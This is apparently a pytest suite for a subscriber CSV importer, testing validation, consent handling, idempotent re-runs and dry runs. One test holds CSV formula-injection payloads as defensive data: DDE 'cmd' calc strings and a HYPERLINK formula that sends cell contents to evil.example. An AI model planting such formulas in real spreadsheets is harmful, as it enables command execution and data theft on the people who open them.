"""CSV import on SQLite and PostgreSQL: good rows imported and enrolled, each kind of bad
row skipped with its line number and reason (and kept in the rejects file), re-runs
create nothing, a dry run writes nothing, an old list never undoes an unsubscribe."""

import csv
import io

import pytest
from click.testing import CliRunner
from sqlalchemy import delete, event, func, select

from campaigns.audience.consent import has_consent
from campaigns.audience.opt_outs import unsubscribe
from campaigns.audience.subscribers import upsert_subscriber
from campaigns.audience.suppression import suppress
from campaigns.db import make_engine, make_session_factory, transaction
from campaigns.delivery.enrollment import enroll
from campaigns.intake.imports import (
    MAX_LINE,
    ImportFileError,
    import_file,
    read_records,
    summary,
)
from campaigns.models import ConsentRecord, Enrollment, Subscriber, Suppression
from tests.helpers import drip_context
from workers.cli import main

HEADER = (
    b" Email ,PHONE,First Name,locale,TimeZone,Consent_Email, consent_sms ,"
    b"consent_source,consent_date"
)
ROWS = [
    b"ana@example.com,(202) 555-0143,Ana,es,America/Chicago,yes,yes,clinic intake,2026-01-15",  # 2
    b"bo@example.com,,Bo,en,,TRUE,0,,",  # 3 email only
    b"cy@example.com,,Cy,,,no,no,,",  # 4 no consent: imported, not enrolled
    b"dee@example.com,12345,Dee,,,yes,yes,,",  # 5 bad phone
    b"not-an-email,,Ed,,,yes,,,",  # 6 bad email
    b"fay@example.com,,Fay,,Mars/Olympus,yes,no,,",  # 7 unknown zone
    b",+12025550144,Gus,,,yes,no,,",  # 8 email consent without an email
    b"hal@example.com,yes",  # 9 wrong column count
    b"jos\xe9@example.com,,Jos\xe9,es,,yes,no,,",  # 10 Latin-1, not UTF-8
    b'kim@example.com,+1 202 555 0145,"Kim, Jr.",en,America/New_York,1,1,,',  # 11 quoted comma
    b"lu@example.com,,Lu,,,maybe,no,,",  # 12 not a yes/no
    b"",  # a blank line is not a row
    b"mo@example.com,,Mo,,,yes,no,,2031-01-01",  # 14 consent date in the future
]
SKIPPED = {
    5: "phone:",
    6: "email:",
    7: "timezone:",
    8: "consent_email: yes, but the row has no email",
    9: "expected 9 columns, found 2",
    10: "not UTF-8 text (byte 0xe9",
    12: "consent_email: 'maybe'",
    14: "consent_date: '2031-01-01' is in the future",
}


@pytest.fixture
def csv_file(tmp_path):
    path = tmp_path / "patients.csv"
    # Excel's "CSV UTF-8": a byte order mark and Windows line endings.
    path.write_bytes(b"\xef\xbb\xbf" + b"\r\n".join([HEADER, *ROWS]) + b"\r\n")
    return path


def run(factory, clock, registry, policy, path, **kw):
    return import_file(factory, clock, registry, policy, path, campaign_key="tiny", **kw)


def counts(factory):
    with factory() as s:
        return tuple(
            s.scalar(select(func.count(m.id))) for m in (Subscriber, ConsentRecord, Enrollment)
        )


def test_good_rows_imported_bad_rows_rejected_with_line_and_reason(
    factory, clock, registry, policy, csv_file
):
    report = run(factory, clock, registry, policy, csv_file, source="clinic-2026-03")
    assert (report.read, report.imported, report.created, report.enrolled) == (12, 4, 4, 3)
    assert report.not_enrolled == [(4, "the row gives no consent")]
    assert {r.line: r.reason for r in report.rejects}.keys() == SKIPPED.keys()
    for reject in report.rejects:
        assert reject.reason.startswith(SKIPPED[reject.line]), reject

    with factory() as s:
        ana = s.scalar(select(Subscriber).where(Subscriber.email == "ana@example.com"))
        kim = s.scalar(select(Subscriber).where(Subscriber.email == "kim@example.com"))
        cy = s.scalar(select(Subscriber).where(Subscriber.email == "cy@example.com"))
        grants = s.scalars(select(ConsentRecord).where(ConsentRecord.subscriber_id == ana.id)).all()
        enrolled = set(
            s.scalars(select(Enrollment.subscriber_id).where(Enrollment.campaign_key == "tiny"))
        )
        assert not has_consent(s, cy.id, "email")
    assert (ana.phone, ana.locale, ana.timezone, ana.first_name) == (
        "+12025550143",
        "es",
        "America/Chicago",
        "Ana",
    )
    assert kim.first_name == "Kim, Jr." and kim.phone == "+12025550145"
    assert sorted(g.channel for g in grants) == ["email", "sms"]
    assert {g.source for g in grants} == {"import"}
    assert grants[0].evidence == {
        "file": "patients.csv",
        "line": 2,
        "import_source": "clinic-2026-03",
        "consent_source": "clinic intake",
        "consent_date": "2026-01-15",
    }
    assert (
        ana.id in enrolled and kim.id in enrolled and cy.id not in enrolled and len(enrolled) == 3
    )
    assert counts(factory) == (4, 5, 3)  # nothing of a rejected row was half-written

    rejects_path = csv_file.with_name("patients.csv.rejects.csv")
    assert report.rejects_path == rejects_path
    with rejects_path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == [
        "line",
        "reason",
        " Email ",
        "PHONE",
        "First Name",
        "locale",
        "TimeZone",
        "Consent_Email",
        " consent_sms ",
        "consent_source",
        "consent_date",
    ]
    kept = {int(r[0]): r for r in rows[1:]}
    assert kept.keys() == SKIPPED.keys()
    assert kept[5][2:5] == ["dee@example.com", "12345", "Dee"]  # the row as it was
    assert kept[9][2:] == ["hal@example.com", "yes"]
    assert kept[10][2] == "jos\\xe9@example.com"  # the undecodable byte kept, escaped

    text = summary(report)
    assert "read 12 rows" in text and "skipped 8" in text and "line 7: skipped: timezone:" in text
    assert "line 4: not enrolled" in text


def test_running_the_same_file_again_creates_nothing(factory, clock, registry, policy, csv_file):
    run(factory, clock, registry, policy, csv_file)
    before = counts(factory)
    clock.advance(hours=1)
    again = run(factory, clock, registry, policy, csv_file)
    assert counts(factory) == before
    assert (again.imported, again.created, again.enrolled, again.already_enrolled) == (4, 0, 0, 3)
    assert len(again.rejects) == len(SKIPPED)


def test_an_old_list_never_undoes_an_unsubscribe(factory, clock, registry, policy, csv_file):
    run(factory, clock, registry, policy, csv_file)
    with transaction(factory) as s:
        ana = s.scalar(select(Subscriber).where(Subscriber.email == "ana@example.com"))
        unsubscribe(s, clock, ana, channels=("email", "sms"))
    clock.advance(days=1)
    report = run(factory, clock, registry, policy, csv_file)
    with factory() as s:
        assert not has_consent(s, ana.id, "email") and not has_consent(s, ana.id, "sms")
        assert s.get(Subscriber, ana.id).status == "unsubscribed"
    assert (
        2,
        "email suppressed (unsubscribed); sms suppressed (unsubscribed); "
        "an import never subscribes anyone again",
    ) in report.not_enrolled


def test_dry_run_writes_nothing(factory, clock, registry, policy, csv_file):
    report = run(factory, clock, registry, policy, csv_file, dry_run=True)
    assert (report.imported, report.created, report.enrolled, len(report.rejects)) == (
        4,
        4,
        3,
        len(SKIPPED),
    )
    assert counts(factory) == (0, 0, 0)
    assert not csv_file.with_name("patients.csv.rejects.csv").exists()
    assert summary(report).startswith("dry run, nothing written")


def test_row_whose_email_and_phone_belong_to_two_people_is_rejected(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "a.csv"
    path.write_text(
        "email,phone,consent_email,consent_sms\n"
        "ana@example.com,+12025550145,yes,no\n,+12025550143,no,yes\n"
        "ana@example.com,+12025550143,yes,yes\n"  # two records: not merged
        "ana@example.com,+12025550144,yes,yes\n"
    )  # a different phone: not replaced
    report = run(factory, clock, registry, policy, path)
    assert [(r.line, r.reason.split(":")[0]) for r in report.rejects] == [
        (4, "email and phone belong to two different subscribers"),
        (5, "email"),
    ]
    assert counts(factory)[0] == 2


@pytest.mark.parametrize(
    "content, message",
    [
        (b"first_name,locale\nAna,en\n", "no email or phone column (found 'first_name', 'locale')"),
        (b"", "the file is empty"),
        (b"\xff\xfee\x00m\x00", "UTF-16"),
        (b"email,E-mail\na@example.com,b@example.com\n", "names the column 'email' twice"),
    ],
)
def test_a_file_it_cannot_import_is_refused_with_a_clear_error(
    factory, clock, registry, policy, tmp_path, content, message
):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError, match=message.replace("(", r"\(").replace(")", r"\)")):
        run(factory, clock, registry, policy, path)
    assert counts(factory) == (0, 0, 0)


def test_drip_import_command(factory, clock, csv_file, tmp_path):
    rt = drip_context(factory, clock)
    result = CliRunner().invoke(
        main, ["import", str(csv_file), "--campaign", "tiny", "--source", "clinic"], obj=rt
    )
    assert result.exit_code == 0, result.output
    assert (
        "imported 4 (4 new subscribers)" in result.output
        and "line 9: skipped: expected 9 columns" in result.output
    )
    assert "patients.csv.rejects.csv" in result.output

    dry = CliRunner().invoke(
        main, ["import", str(csv_file), "--campaign", "tiny", "--dry-run"], obj=rt
    )
    assert dry.exit_code == 0 and "enrolled 0 (already enrolled: 3)" in dry.output

    unknown = CliRunner().invoke(main, ["import", str(csv_file), "--campaign", "nope"], obj=rt)
    assert unknown.exit_code == 1 and "no campaign 'nope'" in unknown.output
    bad = tmp_path / "names.csv"
    bad.write_text("name\nAna\n")
    refused = CliRunner().invoke(main, ["import", str(bad), "--campaign", "tiny"], obj=rt)
    assert refused.exit_code == 1 and "no email or phone column" in refused.output


def test_a_record_the_csv_reader_cannot_read_is_skipped_alone(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "big.csv"
    giant = '"' + "x" * 200_000 + '"'
    path.write_text(
        f"email,first_name,consent_email\nana@example.com,{giant},yes\nbo@example.com,Bo,yes\n"
    )
    report = run(factory, clock, registry, policy, path)
    assert [(r.line, r.reason.split(" (")[0]) for r in report.rejects] == [
        (2, "not readable as CSV")
    ]
    assert (report.imported, report.enrolled) == (1, 1)


# ---------------------------------------------------------------- imports that cannot hurt


def test_rejects_file_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "people.csv"
    path.write_text(
        'email,phone,first_name,consent_email,=cmd|" /C calc"!A0\n'
        '=HYPERLINK("http://evil.example/?"&A1),,Ana,yes,x\n'
        "bo@example.com,+1 202 555 0146,@SUM(A1:A9),maybe,x\n"
        "cy@example.com,,\"-2+3+cmd|' /C calc'!A0\",perhaps,x\n"
        'dee@example.com,,"\tTAB","\r=1+2",x\n'
        'ed@example.com,,"Ed;=1+2",nope,+x\n',
        newline="",
    )
    report = run(factory, clock, registry, policy, path)
    assert [r.line for r in report.rejects] == [2, 3, 4, 5, 6]
    with report.rejects_path.open(encoding="utf-8-sig", newline="") as f:
        text = f.read()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][-1] == '\'=cmd|" /C calc"!A0'
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
    assert "'@SUM(A1:A9)" in cells and "'+1 202 555 0146" in cells and "'\tTAB" in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells and "'\r=1+2" in cells and "'+x" in cells
    # Every cell quoted, so a spreadsheet that splits on ";" keeps "Ed;=1+2" one cell.
    assert '"Ed;=1+2"' in text and text.startswith('"line","reason"')


def test_a_fixed_rejects_file_imports_its_neutralised_cells_as_they_were(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "people.csv"
    path.write_text("email,phone,consent_sms\nana@example.com,+1 202 555 0146,maybe\n")
    first = run(factory, clock, registry, policy, path)
    assert [r.line for r in first.rejects] == [2]
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(first.rejects_path.read_text(encoding="utf-8-sig").replace("maybe", "yes"))
    report = run(factory, clock, registry, policy, fixed)
    assert (report.imported, report.enrolled, report.rejects) == (1, 1, [])
    with factory() as s:
        assert s.scalar(select(Subscriber.phone)) == "+12025550146"


def test_a_nul_or_other_bad_byte_rejects_only_its_own_row(
    factory, clock, registry, policy, tmp_path
):
    lines = [b"email,first_name,consent_email,notes"]
    lines += [b"p%02d@example.com,P%02d,yes," % (i, i) for i in range(2, 6)]  # lines 2-5
    lines += [
        b"nul@example.com,N\x00ll,yes,",  # 6: PostgreSQL refuses NUL in text
        b"esc@example.com,Esc,yes,\x1b[31mred",  # 7: a control character, in any column
        b"ff@example.com,\xff,yes,",  # 8: not UTF-8
        b"sur@example.com,\xed\xa0\x80,yes,",  # 9: an encoded surrogate
        b"over@example.com,\xc0\x80,yes,",  # 10: an overlong NUL
        b'nul2@example.com,Nul,yes,"a\x00b"',  # 11: NUL in a column not imported
        b"del@example.com,D\x7fel,yes,",  # 12
    ]
    lines += [b"q%02d@example.com,Q%02d,yes," % (i, i) for i in range(13, 17)]  # lines 13-16
    path = tmp_path / "damaged.csv"
    path.write_bytes(b"\n".join(lines) + b"\n")
    # Small batches: the bad rows sit in the middle of a batch, after committed ones.
    report = run(factory, clock, registry, policy, path, batch_size=3)
    reasons = {r.line: r.reason for r in report.rejects}
    assert reasons.keys() == {6, 7, 8, 9, 10, 11, 12}
    assert reasons[6].startswith("first_name: contains the control character 0x00 (NUL)")
    assert reasons[7].startswith("notes: contains the control character 0x1b")
    assert reasons[8].startswith("not UTF-8 text (byte 0xff")
    assert reasons[9].startswith("not UTF-8 text (byte 0xed")
    assert reasons[10].startswith("not UTF-8 text (byte 0xc0")
    assert reasons[11].startswith("notes: contains the control character 0x00 (NUL)")
    assert reasons[12].startswith("first_name: contains the control character 0x7f")
    assert (report.read, report.imported, report.enrolled) == (15, 8, 8)
    assert counts(factory) == (8, 8, 8)
    with factory() as s:
        names = set(s.scalars(select(Subscriber.first_name)))
    assert names == {"P02", "P03", "P04", "P05", "Q13", "Q14", "Q15", "Q16"}
    with report.rejects_path.open(encoding="utf-8-sig", newline="") as f:
        kept = {int(r[0]): r[2:] for r in list(csv.reader(f))[1:]}
    assert kept[6] == ["nul@example.com", "N\\x00ll", "yes", ""]  # escaped, not raw
    assert kept[8][1] == "\\xff"


def test_read_records_takes_the_file_as_a_stream(tmp_path):
    path = tmp_path / "big.csv"
    path.write_bytes(b"email\n" + b"".join(b"p%06d@example.com\n" % i for i in range(50_000)))
    with path.open("rb") as stream:
        header, records = read_records(stream)
        assert header == ["email"] and next(records)[1] == ["p000000@example.com"]
        # Only the buffered start of a 1 MB file has been read for two records.
        assert stream.tell() < 64 * 1024 < path.stat().st_size
        assert sum(1 for _ in records) == 49_999


def test_a_line_longer_than_the_limit_is_rejected_without_being_held(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "long.csv"
    with path.open("wb") as f:
        f.write(b"email,consent_email,notes\nana@example.com,yes,")
        f.write(b"x" * (MAX_LINE + 10) + b"\nbo@example.com,yes,\n")
    report = run(factory, clock, registry, policy, path)
    assert [(r.line, r.reason) for r in report.rejects] == [(2, "the line is longer than 1024 KiB")]
    assert (report.imported, report.enrolled) == (1, 1)


TRICKY = (
    "email,phone,first_name,locale,timezone,consent_email,consent_sms\n"
    "ana@example.com,+12025550143,Ana,es,America/Chicago,yes,yes\n"  # 2 new
    "ana@example.com,,Ana B,,,yes,no\n"  # 3 again in the file: already enrolled
    "pen@example.com,,Pen,,,yes,no\n"  # 4 a pending web sign-up: activated and enrolled
    "old@example.com,+12025550150,Old,,,yes,yes\n"  # 5 unsubscribed: never re-subscribed
    "bounced@example.com,,Bou,,,yes,no\n"  # 6 a bounced address: imported, no consent
    "enr@example.com,,Enr,,Europe/Paris,yes,no\n"  # 7 enrolled already
    ",+12025550151,Ph,,,no,yes\n"  # 8 phone only, new
    "ph@example.com,+12025550151,,,,yes,yes\n"  # 9 the same person: email filled in
    "ana@example.com,+12025550151,,,,yes,yes\n"  # 10 two people
    "new@example.com,+12025550143,,,,yes,no\n"  # 11 Ana's phone, another email
    "cy@example.com,,Cy,,,no,no\n"  # 12 no consent
    "cy@example.com,,,,,yes,no\n"  # 13 then consent, later in the file
    "sms@example.com,+12025550152,,,,no,yes\n"  # 14 texts only: enrolled in text hours
)


def _tricky_state(factory, clock, registry, policy):
    with transaction(factory) as s:
        pen = upsert_subscriber(s, clock, email="pen@example.com")
        pen.status = "pending"
        old = upsert_subscriber(
            s, clock, email="old@example.com", phone="+12025550150", consent=("email", "sms")
        )
        unsubscribe(s, clock, old, channels=("email", "sms"))
        suppress(s, clock, "email", "bounced@example.com", "bounce", "sendgrid")
        enr = upsert_subscriber(s, clock, email="enr@example.com", consent=("email",))
        enroll(s, clock, registry, enr, "tiny", policy)


def _snapshot(factory):
    with factory() as s:
        people = {
            p.id: p.email or p.phone for p in s.scalars(select(Subscriber).order_by(Subscriber.id))
        }
        subscribers = sorted(
            (p.email or "", p.phone or "", p.first_name, p.locale, p.timezone, p.status)
            for p in s.scalars(select(Subscriber))
        )
        consent = sorted(
            (people[c.subscriber_id], c.channel, c.action, c.source, str(c.evidence))
            for c in s.scalars(select(ConsentRecord))
        )
        enrollments = sorted(
            (people[e.subscriber_id], e.campaign_key, e.next_step_key, e.next_due_at, e.source)
            for e in s.scalars(select(Enrollment))
        )
    return subscribers, consent, enrollments


def _wipe(factory):
    with transaction(factory) as s:
        for model in (Enrollment, ConsentRecord, Suppression, Subscriber):
            s.execute(delete(model))


def test_the_bulk_path_keeps_every_rule_of_the_row_by_row_path(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "tricky.csv"
    path.write_text(TRICKY)
    results = {}
    for name, kw in {
        "row by row": {"bulk": False},
        "one batch": {},
        "batches of 2": {"batch_size": 2},
    }.items():
        _wipe(factory)
        _tricky_state(factory, clock, registry, policy)
        report = run(factory, clock, registry, policy, path, **kw)
        again = run(factory, clock, registry, policy, path, **kw)
        results[name] = (report, again, _snapshot(factory))
    reference, _, snapshot = results["row by row"]
    assert [r.line for r in reference.rejects] == [10, 11]
    assert dict(reference.not_enrolled) == {
        5: "email suppressed (unsubscribed); sms suppressed (unsubscribed); "
        "an import never subscribes anyone again",
        6: "email suppressed (bounce); an import never subscribes anyone again",
        12: "the row gives no consent",
    }
    assert (reference.imported, reference.created, reference.enrolled) == (11, 5, 5)
    # Ana's second row, the person enrolled before, and the phone-only person's second row
    assert reference.already_enrolled == 3
    for name, (report, again, state) in results.items():
        for attr in ("read", "imported", "created", "enrolled", "already_enrolled"):
            assert getattr(report, attr) == getattr(reference, attr), (name, attr)
        assert report.not_enrolled == reference.not_enrolled, name
        assert [(r.line, r.reason) for r in report.rejects] == [
            (r.line, r.reason) for r in reference.rejects
        ], name
        assert (again.created, again.enrolled) == (0, 0), name
        assert state == snapshot, name


@pytest.mark.parametrize("db_url", ["postgres"], indirect=True)
def test_a_batch_the_database_refuses_goes_again_one_record_at_a_time(
    db_url, factory, clock, registry, policy, tmp_path
):
    """Someone signs Bo up while the import is writing its batch: the batch's insert
    hits the unique email, and record by record Bo's row finds him instead of failing."""
    path = tmp_path / "a.csv"
    path.write_text("email,consent_email\nana@example.com,yes\nbo@example.com,yes\n")
    other = make_engine(db_url)

    saved = []

    def someone_else_saves_bo(session, _context, _instances):
        if saved:
            return
        saved.append(True)
        with make_session_factory(other)() as s:
            upsert_subscriber(s, clock, email="bo@example.com")
            s.commit()

    event.listen(factory, "before_flush", someone_else_saves_bo)
    try:
        report = run(factory, clock, registry, policy, path)
    finally:
        event.remove(factory, "before_flush", someone_else_saves_bo)
        other.dispose()
    assert saved
    assert (report.imported, report.created, report.enrolled, report.rejects) == (2, 1, 2, [])
    assert counts(factory) == (2, 2, 2)


def test_texts_are_consented_only_for_mobiles_in_allowed_countries(
    factory, clock, registry, policy, tmp_path
):
    path = tmp_path / "phones.csv"
    path.write_bytes(
        HEADER
        + b"\n"
        + b",(202) 555-0143,Ana,en,America/New_York,no,yes,clinic,2026-01-15\n"  # 2: a US mobile
        + b",+1 800 555 0199,Toll,en,America/New_York,no,yes,clinic,2026-01-15\n"  # 3: toll-free
        + b",+1 900 555 0199,Prem,en,America/New_York,no,yes,clinic,2026-01-15\n"  # 4: premium
        + b",+44 7911 123456,Uk,en,Europe/London,no,yes,clinic,2026-01-15\n"  # 5: not allowed
        + b",+1 800 555 0198,Nosms,en,America/New_York,no,no,clinic,2026-01-15\n"  # 6: no texts
    )
    report = run(factory, clock, registry, policy, path, sms_countries=("US", "CA"))
    reasons = {r.line: r.reason.split(":")[0] for r in report.rejects}
    assert reasons == {3: "phone_type", 4: "phone_type", 5: "phone_country"}
